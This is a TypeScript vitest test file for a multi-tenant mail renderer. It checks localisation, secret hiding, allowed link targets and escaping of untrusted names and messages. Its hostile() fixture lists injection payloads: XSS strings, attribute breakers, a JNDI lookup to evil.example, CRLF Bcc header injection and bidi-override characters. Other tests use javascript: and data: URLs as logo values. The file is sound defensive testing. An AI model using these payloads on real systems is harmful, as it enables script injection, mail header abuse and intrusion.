import { describe, expect, it } from 'vitest'
import { mailDirection, mailLocales, type MailTemplate } from '@/lib/domain/mail'
import { MissingSecretError, type MailContext } from './mailing'
import { mailSubject, renderMail } from './render'
import { sampleMails, sampleSecret, type SampleTexts } from './samples'

const texts: SampleTexts = { person: 'Ada Lovelace', invitee: 'Grace Hopper', message: 'Welcome aboard.\n\nSee you on Monday.', application: 'Design Studio', device: 'Firefox on Linux' }
const context: MailContext = {
  locale: 'en',
  baseUrl: 'https://id.example/t/contoso',
  to: 'grace@example.com',
  tenant: { name: 'Contoso', brandColor: '#0a7d4f', logoUrl: 'https://cdn.contoso.example/logo.png', privacyUrl: 'https://contoso.example/privacy', helpContact: 'help@contoso.example' },
  secret: sampleSecret,
}
const mails: MailTemplate[] = Object.values(sampleMails(texts))
const everywhere = mailLocales.flatMap((locale) => mails.map((mail) => [locale, mail.template, mail] as const))

/** Addresses that a mail program can be led to: attributes of the HTML and anything like a link in the text. */
function targets(html: string): string[] {
  return [...html.matchAll(/\s(?:href|src|action|formaction|background)="([^"]*)"/gi)].map((match) => (match[1] ?? '').replaceAll('&amp;', '&'))
}

describe.each(everywhere)('%s %s', (locale, template, mail) => {
  it('says the same in HTML and text, in the right direction, with a plain subject', async () => {
    const { subject, html, text } = await renderMail(mail, { ...context, locale })
    expect(html).toContain(`<html dir="${mailDirection(locale)}" lang="${locale}"`)
    expect(subject).toMatch(/^\P{Cc}{5,}$/u)
    expect(mailSubject(mail, { ...context, locale })).toBe(subject)
    for (const address of targets(html).filter((target) => target.includes('/t/contoso/'))) expect(text).toContain(address)
    const marks = /\{\w+\}|undefined|NaN|Invalid Date|\[object|MISSING|<\/?b>/
    expect(text).not.toMatch(marks)
    expect(html.replace(/<style>[\s\S]*?<\/style>/, '')).not.toMatch(/\{\w+\}|undefined|NaN|Invalid Date|\[object|MISSING/)
  })

  it('keeps secrets out of subject and preview, where locked screens and logs show them', async () => {
    const { subject, html } = await renderMail(mail, { ...context, locale })
    const preview = /data-skip-in-text="true">([^<]*)/.exec(html)?.[1] ?? ''
    expect(preview).not.toBe('')
    for (const secret of Object.values(sampleSecret)) expect(`${subject} ${preview}`).not.toContain(secret)
    expect(`${subject} ${preview}`).not.toMatch(/\d{6,}/)
  })

  it('links only to the configured address and to what the tenant set (AB-13)', async () => {
    const { html } = await renderMail(mail, { ...context, locale })
    for (const target of targets(html)) expect(target).toMatch(/^https:\/\/(id\.example\/t\/contoso\/|contoso\.example\/privacy$|cdn\.contoso\.example\/logo\.png$)/)
  })

  it.each(hostile())('shows %s as text (AB-19)', async (_name, payload) => {
    const filled = sampleMails({ person: payload, invitee: payload, message: payload, application: payload, device: payload })[template]
    const dirty = await renderMail(filled, { ...context, locale, tenant: { ...context.tenant, name: payload, helpContact: payload } })
    expect(new Set(skeleton(dirty.html))).toEqual(await cleanTags(locale, mail))
    for (const target of targets(dirty.html)) expect(target).toMatch(/^https:\/\/(id\.example|contoso\.example|cdn\.contoso\.example)\//)
    expect(dirty.subject).not.toMatch(/\p{Cc}/u)
    expect(dirty.text).not.toMatch(/[\u202a-\u202e\u0000]/)
  })
})

/** Every tag with the names of its attributes. React quotes each value and escapes quotes and angle brackets, so values can be cut out. */
function skeleton(html: string): string[] {
  const plain = html.replaceAll(/="[^"]*"/g, '').replaceAll(/<br\/>|<\/?strong>|<\/?div>|<style>[\s\S]*?<\/style>/g, '')
  return [...plain.matchAll(/<[^>]*>/g)].map((match) => match[0])
}

const known = new Map<string, Promise<Set<string>>>()

/** The tags of the mail when nobody attacks. */
function cleanTags(locale: MailContext['locale'], mail: MailTemplate): Promise<Set<string>> {
  const key = `${locale} ${mail.template}`
  const tags = known.get(key) ?? renderMail(mail, { ...context, locale }).then(({ html }) => new Set(skeleton(html)))
  known.set(key, tags)
  return tags
}

/** What an attacker writes into an organisation's name, an inviter's name or a message. */
function hostile(): [string, string][] {
  return [
    ['markup', '<script>alert(1)</script><img src=x onerror=alert(1)><a href="https://evil.example">Click</a>'],
    ['attribute breakers', '"><svg/onload=alert(1)>\' onmouseover=alert(1) x="'],
    ['entities', '&lt;script&gt;&#60;iframe&#62;&quot;'],
    ['message syntax', '{inviter} {count, plural, other {#}} \'{\' </b><b> {tenant'],
    ['template syntax', '${7*7} {{7*7}} <%= 7*7 %> #{7*7} ${jndi:ldap://evil.example}'],
    ['line breaks', 'Bob\r\nBcc: victim@example.com\r\n\r\n<h1>Hi</h1>'],
    ['hidden and reversed characters', 'Con\u202etoso\u202c \u0000\u200b\u2066x\u2069'],
    ['style and comment', '</style><style>*{display:none}</style><!-- --> ]]>'],
  ]
}

describe('renderMail', () => {
  it('masks nothing by itself and fails without the secret it needs', async () => {
    const { invitation, 'sign-in-code': code, 'new-sign-in': notice } = sampleMails(texts)
    await expect(renderMail(invitation, { ...context, secret: undefined })).rejects.toThrow(MissingSecretError)
    await expect(renderMail(code, { ...context, secret: { token: 'x' } })).rejects.toThrow(MissingSecretError)
    await expect(renderMail(notice, { ...context, secret: undefined })).resolves.toHaveProperty('subject')
  })

  it('never lets a chosen name become a link, and leaves honest names alone', async () => {
    const { invitation } = sampleMails({ ...texts, person: 'Win at https://evil.example/now' })
    const mail = await renderMail(invitation, { ...context, tenant: { name: 'www.evil.example' } })
    for (const part of Object.values(mail)) expect(part).not.toMatch(/https:\/\/evil\.example|www\.evil/)
    expect((await renderMail(sampleMails(texts).invitation, { ...context, tenant: { name: 'Booking.com' } })).subject).toBe('Ada Lovelace invited you to Booking.com')
  })

  it.each(['javascript:alert(1)', 'http://cdn.example/logo.png', 'https://user:pass@cdn.example/x.png', 'data:image/svg+xml,<svg/>', '"><script>'])('leaves out a logo or colour that is not one: %s', async (value) => {
    const { html } = await renderMail(sampleMails(texts)['test-mail'], { ...context, tenant: { name: 'Contoso', logoUrl: value, brandColor: value, privacyUrl: value.startsWith('http:') ? null : value } })
    expect(html).not.toContain('<img')
    expect(html).not.toContain('script')
  })

  it('shows the custom message line by line in a text that people can read', async () => {
    const { text } = await renderMail(sampleMails(texts).invitation, context)
    expect(text).toContain('> Welcome aboard.\n> \n> See you on Monday.')
    expect(text).toContain('Accept invitation:\nhttps://id.example/t/contoso/redeem?token=sample-token-of-the-link')
    expect(text).toContain('48201957')
    expect(text).toContain('Design Studio, Supplier Portal, Plan Room, Quality Desk, Invoices, and 2 more')
  })
})
